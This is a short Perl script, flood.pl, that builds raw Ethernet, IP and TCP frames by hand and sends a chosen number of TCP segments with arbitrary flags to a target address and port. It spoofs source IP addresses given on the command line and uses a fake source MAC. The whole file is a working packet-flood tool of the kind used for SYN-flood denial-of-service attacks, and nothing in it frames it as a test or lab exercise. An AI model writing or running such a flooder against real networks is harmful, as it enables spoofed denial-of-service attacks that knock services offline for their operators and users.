# flood.pl DEVICE MAC ADDRESS PORT FLAGS COUNT SOURCE…: sends COUNT TCP segments with these flags to ADDRESS:PORT at
# MAC, each from a port of its own: 50,000 of the first source address, then of the next.
use strict;
use warnings;
use Socket;

my ($device, $mac, $address, $port, $flags, $count, @sources) = @ARGV;
my ($portsEach, $firstPort, $siocgifindex) = (50_000, 10_000, 0x8933);
my ($strangerMac, $ipv4) = (pack('H*', '029900000001'), 0x0800);
my $to = inet_aton $address;

socket my $socket, 17, 3, 0 or die "AF_PACKET socket: $!\n";    # packet(7)
my $request = pack 'a16x24', $device;
ioctl $socket, $siocgifindex, $request or die "$device: $!\n";
my $device_address = pack 'SniSCCx8', 17, 3, unpack('x16i', $request), 0, 0, 6;

sub checksum {
    my $sum = unpack '%32n*', $_[0];
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

for my $number (0 .. $count - 1) {
    my $from = inet_aton $sources[$number / $portsEach];
    my @tcp = ($firstPort + $number % $portsEach, $port, $number, 0, 0x50, $flags, 65535);
    my $pseudo = $from . $to . pack('nn', 6, 20);
    my $segment = pack 'nnNNCCnnn', @tcp, checksum($pseudo . pack 'nnNNCCnnn', @tcp, 0, 0), 0;
    my @ip = (0x45, 0, 40, 0, 0x4000, 64, 6);
    my $head = pack 'CCnnnCCna4a4', @ip, checksum(pack 'CCnnnCCna4a4', @ip, 0, $from, $to), $from, $to;
    my $frame = pack('H*', $mac =~ tr/://dr) . $strangerMac . pack('n', $ipv4) . $head . $segment;
    defined send $socket, pack('a60', $frame), 0, $device_address or die "send: $!\n";
}
